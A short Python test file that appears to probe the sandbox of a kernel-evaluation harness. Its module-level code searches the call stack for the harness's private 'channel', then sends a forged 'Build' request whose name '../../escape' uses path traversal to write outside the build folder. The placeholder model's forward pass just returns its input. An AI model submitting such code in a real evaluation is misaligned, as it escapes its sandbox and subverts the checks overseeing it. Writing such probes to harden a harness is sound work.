"""Asks the trusted side to build something whose name would leave its folder."""

import json
import struct
import sys

import torch
from torch import nn


class ModelNew(nn.Module):
    def __init__(self, in_channels: int, out_channels: int, kernel_size: int) -> None:
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(in_channels, out_channels, kernel_size))

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


frame = sys._getframe()
while frame and "channel" not in frame.f_locals:
    frame = frame.f_back
ask = {
    "type": "Build", "name": "../../escape", "sources": [["main.cpp", ""]], "cpp_flags": [],
    "cuda_flags": [], "link_flags": [], "include_paths": [], "with_cuda": False,
}
data = json.dumps({"nonce": "", "tensors": [], "body": ask}).encode()
frame.f_locals["channel"]._socket.sendall(struct.pack("<I", len(data)) + data)
